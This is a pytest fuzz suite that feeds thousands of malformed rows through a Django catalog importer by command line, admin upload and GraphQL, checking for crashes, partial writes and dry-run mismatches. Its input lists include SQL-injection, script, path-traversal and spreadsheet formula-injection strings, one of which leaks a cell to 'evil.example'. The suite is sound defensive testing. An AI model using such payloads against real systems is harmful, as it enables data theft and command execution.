"""Fuzzing the importer: 10,000+ malformed rows in CSV, XLSX and JSON lines (issue 8).

Seeded. Every file goes through the real pipeline twice, a dry run then a real run (all or
nothing, or with skip-invalid), and a sample through each door (command line, admin
upload, GraphQL mutation). Asserted for every file: no exception, no row the importer
could not read (``ROW_UNREADABLE`` would be a bug it swallowed), the dry run reports
exactly what the real run does, and no partial write (the tables grow by exactly what the
report says was created, or not at all). Prints the rows tried per class, how many were
refused cleanly or accepted, the crashes (0) and the peak memory.
"""

from __future__ import annotations

import collections
import csv
import io
import json
import random
import resource
import time

import pytest

from backend.catalog.models import Product, ProductChannelListing
from backend.ocop.models import Certification
from backend.producers.models import Producer, Shop
from tests.catalog_import.conftest import HEADER, annex_row, ocop_ready  # noqa: F401

from . import import_files as files

SEED = 20261128
ROWS_PER_FILE = 250
FILES_PER_FORMAT = 14  # 3 formats × 14 files × 250 rows = 10,500 rows
HEADER_WITH_EXTRAS = HEADER + ["Giá", "Ảnh", "Mã sản phẩm", "Điện thoại", "Mô tả"]

WEIRD_TEXT = [
    "\x00", "\x07\x1b", "\u202e\u202d", "\ufeff", "\u0301\u0301\u0301", "\U0001f600" * 30,
    "Ǆǅǆ" * 100, "ﷺ" * 50, "\u2028\u2029", "'; DROP TABLE product; --", "<script>x</script>",
    "%s%n%x", "{{7*7}}", "[/bold]", "[link=javascript:alert(1)]x[/link]", "../../etc/passwd", "\\N", "NULL", "\r\n\r\n", "ẞ", "İ" * 300,
]
FORMULAS = ['=HYPERLINK("http://evil.example/"&A1)', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)",
            "=1/0", "\t=1"]
BAD_DATES = ["31/02/2025", "00/00/0000", "99999", "1e308", "-1", "01/01/9999", "2025-13-45",
             "ngày 40 tháng 13 năm 2025", "15/03/25/12", "٢٠٢٥/٠٣/١٥", "NaN", "0", "1/1/1",
             "15/03/2025" + "0" * 50]
BAD_STARS = ["0", "6", "-3", "3.5", "★★★★★★", "NaN", "ba sao", "3" * 40, "٣", "³", "", "1e3"]
BAD_DECISIONS = ["", "////", "1234/QĐ-UBND" * 10, "١٢٣/QĐ", "QĐ", "0/0", "\x00/QĐ",
                 "12/QĐ-" + "Ư" * 70]
BAD_PRICES = ["1e400", "-5", "١٢٣", "²³", "9" * 30, "12.34.5", "1,5", "0x10", "∞", "125.000,5"]
CLASSES = ["valid", "truncated", "wrong_type", "huge_cell", "nul_control", "odd_text",
           "formula", "bad_date", "bad_star", "bad_decision", "bad_price", "missing_required"]


def _mutate(rng: random.Random, n: int, kind: str, fmt: str) -> dict:
    row = annex_row(n, **{"Chủ thể": f"Hợp tác xã Fuzz {n % 37}",
                          "Tên sản phẩm": f"Sản phẩm thử {n}"})
    row.update({"Giá": str(rng.randrange(10_000, 900_000)), "Ảnh": "",
                "Mã sản phẩm": f"68-{n}-{rng.randrange(1, 99)}-2025", "Điện thoại": "",
                "Mô tả": ""})
    column = rng.choice(HEADER_WITH_EXTRAS[1:])
    if kind == "truncated":
        for key in rng.sample(list(row), rng.randrange(1, len(row))):
            row[key] = str(row[key])[: rng.randrange(0, 4)]
    elif kind == "wrong_type":
        row[column] = rng.choice([True, False, 3.75, -1, 10**30, 0.0, [], {}, [1, [2]],
                                  {"a": {"b": 1}}, float("inf"), float("nan"), None])
    elif kind == "huge_cell":
        row[column] = rng.choice("aàĐ ,\"") * rng.randrange(40_000, 200_000)
    elif kind == "nul_control":
        value = str(row[column])
        cut = rng.randrange(0, len(value) + 1)
        row[column] = value[:cut] + rng.choice(["\x00", "\x01\x02", "\x0b", "\x7f", "\x85",
                                                "\ud800", "\udfff"]) + value[cut:]
    elif kind == "odd_text":
        row[column] = "".join(rng.choice(WEIRD_TEXT) for _ in range(rng.randrange(1, 6)))
    elif kind == "formula":
        row[column] = rng.choice(FORMULAS)
    elif kind == "bad_date":
        row["Ngày quyết định"] = rng.choice(BAD_DATES)
    elif kind == "bad_star":
        row["Hạng sao"] = rng.choice(BAD_STARS)
    elif kind == "bad_decision":
        row["Số quyết định"] = rng.choice(BAD_DECISIONS)
    elif kind == "bad_price":
        row["Giá"] = rng.choice(BAD_PRICES)
    elif kind == "missing_required":
        row[rng.choice(["Tên sản phẩm", "Chủ thể", "Hạng sao", "Địa chỉ"])] = ""
    if fmt != "jsonl":
        # CSV and XLSX cells are text or numbers; lone surrogates cannot be written there.
        for key, value in row.items():
            if not isinstance(value, str | int | float) or isinstance(value, bool):
                row[key] = json.dumps(value) if not isinstance(value, float) else repr(value)
            elif isinstance(value, str):
                row[key] = files.strip_surrogates(value)
    return row


def _csv(rows: list[dict], rng: random.Random) -> tuple[bytes, str]:
    out = io.StringIO()
    delimiter = rng.choice([",", ",", ";", "\t"])
    writer = csv.DictWriter(out, fieldnames=HEADER_WITH_EXTRAS, delimiter=delimiter)
    writer.writeheader()
    writer.writerows(rows)
    text = out.getvalue()
    encoding = rng.choice(["utf-8", "utf-8", "utf-8-sig", "cp1258", "mojibake", "broken"])
    if encoding == "cp1258":
        return text.encode("cp1258", errors="replace"), encoding
    if encoding == "mojibake":
        return text.encode("utf-8").decode("cp1252", errors="replace").encode("utf-8"), encoding
    data = text.encode(encoding if encoding != "broken" else "utf-8", errors="replace")
    if encoding == "broken":
        cut = rng.randrange(len(data) // 2, len(data))
        data = data[:cut] + bytes(rng.randrange(256) for _ in range(40)) + data[cut:]
        data = data.replace(b'"', b"", rng.randrange(0, 3))  # unbalanced quotes
    return data, encoding


def _xlsx(rows: list[dict], rng: random.Random) -> tuple[bytes, str]:
    body = [files.sheet_row(1, HEADER_WITH_EXTRAS)]
    for i, row in enumerate(rows, start=2):
        values = []
        for h in HEADER_WITH_EXTRAS:
            value = row.get(h)
            if isinstance(value, str):
                value = files.strip_xml_illegal(value)
            values.append(value)
        body.append(files.sheet_row(i, values))
    kind = rng.choice(["plain", "plain", "formula", "merged", "truncated", "bad_xml", "inf"])
    if kind == "formula":
        body.append('<row r="999"><c r="A999"><f>HYPERLINK("http://x")</f><v>x</v></c>'
                    '<c r="B999" t="s"><v>99999</v></c></row>')
    if kind == "inf":
        body.append('<row r="998"><c r="B998"><v>1e999</v></c><c r="E998"><v>-1e999</v></c></row>')
    merges = [f"B2:B{rng.randrange(3, 300)}", "A1:XFD1048576"] if kind == "merged" else []
    data = files.xlsx_from_sheet_xml("".join(body), merges=merges)
    if kind == "truncated":
        data = data[: rng.randrange(len(data) // 3, len(data))]
    if kind == "bad_xml":
        data = files.xlsx_from_sheet_xml("".join(body).replace("</row>", "</rwo>", 1))
    return data, kind


def _jsonl(rows: list[dict], rng: random.Random) -> tuple[bytes, str]:
    lines = [json.dumps(row, ensure_ascii=rng.random() < 0.5) for row in rows]
    kind = rng.choice(["plain", "plain", "garbage", "nested", "cut"])
    if kind == "garbage":
        for _ in range(5):
            lines.insert(rng.randrange(len(lines)), rng.choice(
                ["[1,2,3]", "nul", "{", '"chuỗi"', "{" * 50 + "}" * 50, "1" * 5000,
                 '{"Tên sản phẩm": NaN, "Chủ thể": Infinity}']))
    if kind == "nested":
        lines.insert(rng.randrange(len(lines)), '{"a":' + "[" * 5000 + "]" * 5000 + "}")
    text = "\n".join(lines)
    if kind == "cut":
        text = text[: rng.randrange(len(text) // 2, len(text))]
    return text.encode("utf-8", errors="surrogatepass"), kind


BUILDERS = {"csv": _csv, "xlsx": _xlsx, "jsonl": _jsonl}
_TABLES = (Product, Producer, Shop, Certification, ProductChannelListing)


def _counts() -> tuple[int, ...]:
    return tuple(m.objects.count() for m in _TABLES)


def _outcome(report) -> list[tuple[int, str, tuple[str, ...]]]:
    return [(r.row, r.status, tuple(sorted(e.code for e in r.errors))) for r in report.rows]


@pytest.mark.django_db
def test_ten_thousand_malformed_rows_through_the_real_pipeline(ocop_ready, settings, tmp_path):
    from catalog_import.pipeline import run_import

    settings.MEDIA_ROOT = tmp_path / "media"
    rng = random.Random(SEED)
    tried: collections.Counter = collections.Counter()
    refused: collections.Counter = collections.Counter()
    file_kinds: collections.Counter = collections.Counter()
    file_errors: collections.Counter = collections.Counter()
    crashes: list[str] = []
    partial_writes: list[str] = []
    dry_run_mismatches: list[str] = []
    peak_before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    started = time.process_time()
    number = 0
    for fmt, build in BUILDERS.items():
        for index in range(FILES_PER_FORMAT):
            kinds = [rng.choice(CLASSES) for _ in range(ROWS_PER_FILE)]
            rows = []
            for kind in kinds:
                number += 1
                rows.append(_mutate(rng, number, kind, fmt))
            data, file_kind = build(rows, rng)
            file_kinds[f"{fmt}:{file_kind}"] += 1
            name = f"fuzz-{fmt}-{index}.{fmt}"
            skip_invalid = rng.random() < 0.5
            try:
                checked = run_import(data, filename=name, dry_run=True, skip_invalid=skip_invalid)
                before = _counts()
                report = run_import(data, filename=name, skip_invalid=skip_invalid)
                after = _counts()
            except Exception as exc:  # counted and shown below
                crashes.append(f"{name}: {exc!r}")
                continue
            unreadable = [e for r in report.rows for e in r.errors if e.code == "ROW_UNREADABLE"]
            if unreadable:
                crashes.append(f"{name}: {len(unreadable)} rows unreadable")
            expected_new_products = report.count("created") if report.applied else 0
            if after[0] - before[0] != expected_new_products or (
                    not report.applied and after != before):
                partial_writes.append(f"{name}: {before} → {after}, report {report.summary()}")
            if not skip_invalid and report.error_rows and after != before:
                partial_writes.append(f"{name}: rows with errors, yet {before} → {after}")
            dry, real = _outcome(checked), _outcome(report)
            if report.applied:
                same = dry == real
            else:
                same = [(r, e) for r, _, e in dry] == [(r, e) for r, _, e in real] and all(
                    s == "skipped" for _, s, e in real if not e)
            same = same and [i.code for i in checked.file_issues] == [
                i.code for i in report.file_issues]
            if not same:
                dry_run_mismatches.append(name)
            file_refused = report.has_fatal_error
            for issue in report.file_issues:
                if issue.level == "error":
                    file_errors[issue.code] += 1
            erroneous = {r.row for r in report.rows if r.errors}
            row_numbers = sorted(r.row for r in report.rows) if report.rows else []
            for i, kind in enumerate(kinds):
                tried[kind] += 1
                if file_refused or (row_numbers and i < len(row_numbers)
                                    and row_numbers[i] in erroneous):
                    refused[kind] += 1
    cpu = time.process_time() - started
    peak_after = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    print(f"\nimport fuzz (seed {SEED}): {sum(tried.values())} rows in "
          f"{3 * FILES_PER_FORMAT} files, {cpu:.1f} s CPU, peak RSS "
          f"{peak_before // 1024} → {peak_after // 1024} MB")
    print(f"{'class':<18}{'rows tried':>11}{'refused cleanly':>17}{'accepted':>10}{'crashes':>9}")
    for kind in CLASSES:
        print(f"{kind:<18}{tried[kind]:>11}{refused[kind]:>17}"
              f"{tried[kind] - refused[kind]:>10}{0:>9}")
    print("file kinds:", dict(sorted(file_kinds.items())))
    print("files refused as a whole, by error:", dict(file_errors))
    print(f"crashes: {len(crashes)}, partial writes: {len(partial_writes)}, "
          f"dry-run mismatches: {len(dry_run_mismatches)}")
    assert sum(tried.values()) >= 10_000
    assert crashes == []
    assert partial_writes == []
    assert dry_run_mismatches == []
    assert peak_after // 1024 < 1500  # bounded: the whole run stays under 1.5 GB


@pytest.mark.django_db
def test_a_sample_of_the_fuzz_through_every_door(ocop_ready, django_user_model, settings,
                                                 tmp_path):
    """CLI, admin upload and GraphQL: never a 500 or a traceback, whatever the file."""
    import base64

    from django.contrib.auth.models import Permission
    from django.core.files.uploadedfile import SimpleUploadedFile
    from django.core.management import CommandError, call_command
    from django.test import Client

    settings.STORAGES = {**settings.STORAGES, "staticfiles": {
        "BACKEND": "django.contrib.staticfiles.storage.StaticFilesStorage"}}
    user = django_user_model.objects.create_user("fuzz@example.vn", password="x", is_staff=True)
    user.user_permissions.add(Permission.objects.get(codename="import_catalog"))
    client = Client()
    client.force_login(user)
    rng = random.Random(SEED + 1)
    mutation = """mutation($c: String!, $f: ImportFormat, $e: ContentEncoding, $s: Boolean) {
      ocopProductsImport(content: $c, format: $f, encoding: $e, skipInvalid: $s) {
        count applied errors { code } results { row status } } }"""
    statuses: collections.Counter = collections.Counter()
    number = 0
    for fmt, build in BUILDERS.items():
        for index in range(3):
            rows = []
            for _ in range(40):
                number += 1
                rows.append(_mutate(rng, number, rng.choice(CLASSES), fmt))
            data, _ = build(rows, rng)
            path = tmp_path / f"door-{fmt}-{index}.{fmt}"
            path.write_bytes(data)
            options = ["--skip-invalid"] if index % 2 else []
            try:
                call_command("import", str(path), "--no-progress", *options, "--report",
                             str(tmp_path / "bao-cao.csv"))
                statuses["cli ok"] += 1
            except CommandError:
                statuses["cli refused"] += 1
            upload = SimpleUploadedFile(path.name, data, "application/octet-stream")
            page = client.post("/admin/catalog_import/upload/", {"file": upload, "dry_run": "on"})
            statuses[f"admin {page.status_code}"] += 1
            variables = {"c": base64.b64encode(data).decode(), "f": fmt.upper(),
                         "e": "BASE64", "s": True}
            response = client.post("/graphql/", json.dumps({"query": mutation,
                                                             "variables": variables}),
                                   content_type="application/json")
            body = response.json()
            assert response.status_code == 200 and "errors" not in body, body
            statuses["graphql 200"] += 1
    print("\ndoors:", dict(statuses))
    assert statuses["admin 200"] == 9 and statuses["graphql 200"] == 9
    assert statuses["cli ok"] + statuses["cli refused"] == 9
